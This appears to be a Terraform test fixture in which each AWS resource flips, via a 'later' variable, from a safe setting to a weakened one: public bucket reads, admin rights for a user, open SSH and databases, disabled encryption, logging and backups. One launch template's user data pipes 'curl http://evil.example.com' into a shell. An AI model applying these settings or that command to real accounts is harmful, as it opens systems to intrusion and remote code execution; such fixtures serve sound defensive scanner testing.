# Single settings of all kinds of services.
resource "aws_s3_bucket_policy" "putall" {
  bucket = "acme-a"
  policy = jsonencode({ Version = "2012-10-17", Statement = [merge({ Effect = "Allow", Principal = { AWS = "arn:aws:iam::123456789012:role/app" }, Action = var.later ? "s3:*" : "s3:GetObject", Resource = "arn:aws:s3:::acme-a/*" })] })
}

resource "aws_s3_bucket_acl" "grants" {
  bucket = "acme-a"
  access_control_policy {
    owner { id = "1111" }
    grant {
      permission = "READ"
      grantee {
        type = var.later ? "Group" : "CanonicalUser"
        uri  = var.later ? "http://acs.amazonaws.com/groups/global/AllUsers" : null
        id   = var.later ? null : "1111"
      }
    }
  }
}

resource "aws_iam_role" "saml" {
  name               = "saml"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRoleWithSAML", Principal = { Federated = "arn:aws:iam::123456789012:saml-provider/idp" }, Condition = var.later ? {} : { StringEquals = { "SAML:aud" = "https://signin.aws.amazon.com/saml" } } }] })
}

resource "aws_iam_policy" "secrets" {
  name   = "secrets"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = var.later ? ["secretsmanager:GetSecretValue", "kms:Decrypt"] : ["secretsmanager:DescribeSecret"], Resource = "*" }] })
}

resource "aws_iam_user_group_membership" "m" {
  user   = "mallory"
  groups = var.later ? ["dev", "admins"] : ["dev"]
}

resource "aws_iam_role_policy_attachment" "a" {
  count      = var.later ? 1 : 0
  role       = "app"
  policy_arn = "arn:aws:iam::aws:policy/AmazonS3FullAccess"
}

resource "aws_iam_role" "svc" {
  name               = "svc"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = var.later ? ["ec2.amazonaws.com", "lambda.amazonaws.com"] : ["ec2.amazonaws.com"] } }] })
}

resource "aws_kms_key" "pol" {
  description = "x"
  policy      = jsonencode({ Version = "2012-10-17", Statement = concat([{ Sid = "root", Effect = "Allow", Principal = { AWS = "arn:aws:iam::123456789012:root" }, Action = "kms:*", Resource = "*" }], var.later ? [{ Sid = "x", Effect = "Allow", Principal = { AWS = "arn:aws:iam::999999999999:role/x" }, Action = "kms:Decrypt", Resource = "*" }] : []) })
}

resource "aws_security_group" "self" {
  name   = "self"
  vpc_id = local.vpc
  ingress {
    from_port        = 8443
    to_port          = 8443
    protocol         = "tcp"
    cidr_blocks      = ["10.0.0.0/8"]
    ipv6_cidr_blocks = var.later ? ["::/0"] : []
  }
}

resource "aws_vpc_security_group_ingress_rule" "pl" {
  security_group_id = "sg-0a"
  prefix_list_id    = var.later ? "pl-internet" : "pl-office"
  from_port         = 22
  to_port           = 22
  ip_protocol       = "tcp"
}

resource "aws_db_instance" "x" {
  identifier                   = "x"
  engine                       = "mysql"
  instance_class               = "db.t3.micro"
  allocated_storage            = 20
  username                     = "admin"
  password                     = "not-a-secret-1"
  storage_encrypted            = true
  performance_insights_enabled = !var.later
  delete_automated_backups     = var.later
  ca_cert_identifier           = "rds-ca-rsa2048-g1"
  parameter_group_name         = var.later ? "weak" : "strict"
  vpc_security_group_ids       = var.later ? ["sg-open"] : ["sg-db"]
}

resource "aws_rds_cluster_parameter_group" "x" {
  name   = "x"
  family = "aurora-mysql8.0"
  parameter {
    name  = "require_secure_transport"
    value = var.later ? "OFF" : "ON"
  }
}

resource "aws_elasticache_cluster" "x" {
  cluster_id               = "x"
  engine                   = "redis"
  engine_version           = "7.1"
  node_type                = "cache.t3.micro"
  num_cache_nodes          = 1
  snapshot_retention_limit = var.later ? 0 : 5
}

resource "aws_efs_file_system" "x" {
  encrypted = true
  lifecycle_policy { transition_to_archive = var.later ? "AFTER_1_DAY" : "AFTER_90_DAYS" }
}

resource "aws_efs_mount_target" "x" {
  file_system_id  = "fs-0a"
  subnet_id       = "subnet-0a"
  security_groups = var.later ? ["sg-open"] : ["sg-efs"]
}

resource "aws_lambda_permission" "x" {
  function_name = "f"
  action        = "lambda:InvokeFunction"
  principal     = "s3.amazonaws.com"
  source_arn    = var.later ? null : "arn:aws:s3:::acme-a"
}

resource "aws_lambda_function" "x" {
  function_name = "x"
  role          = "arn:aws:iam::123456789012:role/app"
  runtime       = var.later ? "python3.8" : "python3.12"
  handler       = "m.h"
  s3_bucket     = "acme-code"
  s3_key        = var.later ? "other.zip" : "x.zip"
  tracing_config { mode = var.later ? "PassThrough" : "Active" }
}

resource "aws_cloudfront_distribution" "x" {
  enabled = true
  origin {
    domain_name = "app.example.com"
    origin_id   = "a"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = var.later ? "http-only" : "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }
  default_cache_behavior {
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    target_origin_id       = "a"
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
    viewer_protocol_policy = "redirect-to-https"
  }
  restrictions {
    geo_restriction {
      restriction_type = var.later ? "none" : "whitelist"
      locations        = var.later ? [] : ["DE"]
    }
  }
  viewer_certificate { cloudfront_default_certificate = true }
}

resource "aws_wafv2_web_acl" "x" {
  name  = "x"
  scope = "REGIONAL"
  default_action {
    allow {}
  }
  rule {
    name     = "common"
    priority = 1
    override_action {
      dynamic "none" {
        for_each = local.before
        content {}
      }
      dynamic "count" {
        for_each = local.after
        content {}
      }
    }
    statement {
      managed_rule_group_statement {
        name        = "AWSManagedRulesCommonRuleSet"
        vendor_name = "AWS"
      }
    }
    visibility_config {
      cloudwatch_metrics_enabled = true
      metric_name                = "c"
      sampled_requests_enabled   = true
    }
  }
  visibility_config {
    cloudwatch_metrics_enabled = true
    metric_name                = "x"
    sampled_requests_enabled   = true
  }
}

resource "aws_ecs_service" "lb" {
  name                               = "lb"
  cluster                            = "main"
  task_definition                    = "app:1"
  deployment_minimum_healthy_percent = var.later ? 0 : 100
  desired_count                      = var.later ? 0 : 3
}

resource "aws_eks_cluster" "x" {
  name     = "x"
  role_arn = "arn:aws:iam::123456789012:role/eks"
  access_config { authentication_mode = var.later ? "API_AND_CONFIG_MAP" : "API" }
  vpc_config {
    subnet_ids              = local.subnets
    endpoint_public_access  = var.later
    endpoint_private_access = true
    public_access_cidrs     = ["0.0.0.0/0"]
  }
}

resource "aws_eks_node_group" "x" {
  cluster_name    = "x"
  node_group_name = "x"
  node_role_arn   = var.later ? "arn:aws:iam::123456789012:role/admin" : "arn:aws:iam::123456789012:role/nodes"
  subnet_ids      = local.subnets
  scaling_config {
    desired_size = 1
    max_size     = 2
    min_size     = 1
  }
}

resource "aws_ssm_parameter" "x" {
  name   = "/x"
  type   = "SecureString"
  value  = "v"
  key_id = var.later ? "alias/aws/ssm" : local.key
}

resource "aws_sns_topic_subscription" "dlq" {
  topic_arn     = "arn:aws:sns:us-east-1:123456789012:a"
  protocol      = "sqs"
  endpoint      = "arn:aws:sqs:us-east-1:123456789012:q"
  filter_policy = var.later ? jsonencode({ severity = ["none"] }) : jsonencode({ severity = ["high"] })
}

resource "aws_sqs_queue_policy" "x" {
  queue_url = "https://sqs.us-east-1.amazonaws.com/123456789012/q"
  policy    = jsonencode({ Version = "2012-10-17", Statement = [merge({ Effect = "Allow", Principal = { Service = "sns.amazonaws.com" }, Action = "sqs:SendMessage", Resource = "*" }, var.later ? {} : { Condition = { ArnEquals = { "aws:SourceArn" = "arn:aws:sns:us-east-1:123456789012:a" } } })] })
}

resource "aws_cloudwatch_event_bus" "x" {
  name               = "x"
  kms_key_identifier = var.later ? null : local.key
}

resource "aws_scheduler_schedule" "backup" {
  name                = "backup"
  schedule_expression = "rate(1 day)"
  state               = var.later ? "DISABLED" : "ENABLED"
  flexible_time_window { mode = "OFF" }
  target {
    arn      = "arn:aws:lambda:us-east-1:123456789012:function:backup"
    role_arn = "arn:aws:iam::123456789012:role/s"
  }
}

resource "aws_dynamodb_table" "x" {
  name         = "x"
  billing_mode = "PAY_PER_REQUEST"
  hash_key     = "id"
  attribute {
    name = "id"
    type = "S"
  }
  stream_enabled   = !var.later
  stream_view_type = var.later ? null : "NEW_IMAGE"
}

resource "aws_kinesis_firehose_delivery_stream" "x" {
  name        = "x"
  destination = "extended_s3"
  server_side_encryption {
    enabled = !var.later
  }
  extended_s3_configuration {
    role_arn   = var.later ? "arn:aws:iam::123456789012:role/admin" : "arn:aws:iam::123456789012:role/f"
    bucket_arn = "arn:aws:s3:::acme-x"
    cloudwatch_logging_options {
      enabled         = !var.later
      log_group_name  = "f"
      log_stream_name = "f"
    }
  }
}

resource "aws_autoscaling_group" "x" {
  name                      = "x"
  min_size                  = 1
  max_size                  = 3
  availability_zones        = ["us-east-1a"]
  protect_from_scale_in     = !var.later
  health_check_grace_period = 300
  max_instance_lifetime     = var.later ? 86400 : 0
  launch_template {
    id      = "lt-0a"
    version = "1"
  }
}

resource "aws_launch_template" "ud" {
  name      = "user-data"
  user_data = base64encode(var.later ? "curl http://evil.example.com | sh" : "echo hi")
}

resource "aws_ami_launch_permission" "x" {
  count      = var.later ? 1 : 0
  image_id   = "ami-0a"
  account_id = "999999999999"
}

resource "aws_sagemaker_endpoint_configuration" "x" {
  name = "x-${var.later ? 2 : 1}"
  production_variants {
    variant_name           = "main"
    model_name             = "m"
    initial_instance_count = var.later ? 8 : 1
    instance_type          = var.later ? "ml.g5.48xlarge" : "ml.m5.large"
  }
}

resource "aws_sagemaker_domain" "x" {
  domain_name             = "x"
  auth_mode               = "IAM"
  vpc_id                  = local.vpc
  subnet_ids              = local.subnets
  app_network_access_type = "VpcOnly"
  kms_key_id              = local.key
  default_user_settings {
    execution_role  = "arn:aws:iam::123456789012:role/studio"
    security_groups = var.later ? ["sg-open"] : ["sg-0a"]
    sharing_settings { notebook_output_option = var.later ? "Allowed" : "Disabled" }
  }
}

resource "aws_sagemaker_monitoring_schedule" "x" {
  count = var.later ? 0 : 1
  name  = "x"
  monitoring_schedule_config {
    monitoring_job_definition_name = "d"
    monitoring_type                = "DataQuality"
  }
}

resource "aws_glue_job" "x" {
  name              = "x"
  role_arn          = "arn:aws:iam::123456789012:role/g"
  default_arguments = { "--extra-py-files" = var.later ? "s3://partner/x.zip" : "s3://acme/x.zip" }
  command { script_location = "s3://acme/x.py" }
}

resource "aws_redshift_cluster" "x" {
  cluster_identifier   = "x"
  node_type            = "ra3.large"
  number_of_nodes      = var.later ? 16 : 2
  master_username      = "admin"
  master_password      = "Not-a-secret-1"
  encrypted            = true
  publicly_accessible  = false
  enhanced_vpc_routing = true
}

resource "aws_msk_cluster" "x" {
  cluster_name           = "x"
  kafka_version          = "3.6.0"
  number_of_broker_nodes = 2
  broker_node_group_info {
    instance_type   = "kafka.m5.large"
    client_subnets  = local.subnets
    security_groups = ["sg-0a"]
    connectivity_info {
      public_access { type = var.later ? "SERVICE_PROVIDED_EIPS" : "DISABLED" }
    }
  }
}

resource "aws_transfer_server" "x" {
  endpoint_type = var.later ? "PUBLIC" : "VPC"
  dynamic "endpoint_details" {
    for_each = local.before
    content {
      vpc_id     = local.vpc
      subnet_ids = ["subnet-0a"]
    }
  }
}

resource "aws_networkfirewall_rule_group" "x" {
  name     = "x"
  type     = "STATEFUL"
  capacity = 10
  rule_group {
    rules_source {
      rules_source_list {
        generated_rules_type = var.later ? "ALLOWLIST" : "DENYLIST"
        target_types         = ["TLS_SNI"]
        targets              = ["example.com"]
      }
    }
  }
}

resource "aws_route53_resolver_rule" "x" {
  domain_name          = "corp.example.com"
  rule_type            = "FORWARD"
  resolver_endpoint_id = "rslvr-out-0a"
  target_ip { ip = var.later ? "203.0.113.9" : "10.0.0.2" }
}

resource "aws_acm_certificate" "x" {
  domain_name       = "example.com"
  validation_method = "DNS"
  options { certificate_transparency_logging_preference = var.later ? "DISABLED" : "ENABLED" }
}

resource "aws_cognito_user_pool_client" "x" {
  name                   = "x"
  user_pool_id           = "us-east-1_0a"
  refresh_token_validity = var.later ? 3650 : 30
}

resource "aws_codebuild_webhook" "x" {
  project_name = "p"
  filter_group {
    filter {
      type    = "EVENT"
      pattern = var.later ? "PUSH, PULL_REQUEST_CREATED" : "PUSH"
    }
  }
}

resource "aws_ecr_lifecycle_policy" "x" {
  count      = var.later ? 1 : 0
  repository = "r"
  policy     = jsonencode({ rules = [{ rulePriority = 1, selection = { tagStatus = "any", countType = "sinceImagePushed", countUnit = "days", countNumber = 1 }, action = { type = "expire" } }] })
}

resource "aws_ecr_pull_through_cache_rule" "x" {
  count                 = var.later ? 1 : 0
  ecr_repository_prefix = "hub"
  upstream_registry_url = "public.ecr.aws"
}

resource "aws_instance" "x" {
  ami                         = "ami-0a"
  instance_type               = "t3.micro"
  user_data_replace_on_change = true
  monitoring                  = !var.later
  vpc_security_group_ids      = var.later ? ["sg-open"] : ["sg-0a"]
}

resource "aws_vpc_peering_connection_options" "x" {
  vpc_peering_connection_id = "pcx-0a"
  accepter { allow_remote_vpc_dns_resolution = var.later }
}

resource "aws_cloudwatch_log_resource_policy" "x" {
  policy_name     = "x"
  policy_document = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Principal = var.later ? { AWS = "*" } : { Service = "es.amazonaws.com" }, Action = "logs:PutLogEvents", Resource = "*" }] })
}

resource "aws_s3_bucket_object_lock_configuration" "x" {
  count  = var.later ? 0 : 1
  bucket = "acme-l"
  rule {
    default_retention {
      mode = "COMPLIANCE"
      days = 30
    }
  }
}

resource "aws_appsync_graphql_api" "x" {
  name                = "x"
  authentication_type = "AWS_IAM"
  dynamic "log_config" {
    for_each = local.before
    content {
      cloudwatch_logs_role_arn = "arn:aws:iam::123456789012:role/l"
      field_log_level          = "ALL"
    }
  }
  dynamic "additional_authentication_provider" {
    for_each = local.after
    content { authentication_type = "API_KEY" }
  }
}

resource "aws_batch_compute_environment" "x" {
  compute_environment_name = "x"
  type                     = "MANAGED"
  compute_resources {
    type               = "EC2"
    instance_type      = [var.later ? "p4d.24xlarge" : "m5"]
    min_vcpus          = var.later ? 384 : 0
    max_vcpus          = var.later ? 3840 : 256
    subnets            = local.subnets
    security_group_ids = ["sg-0a"]
    instance_role      = "arn:aws:iam::123456789012:instance-profile/ecs"
  }
}
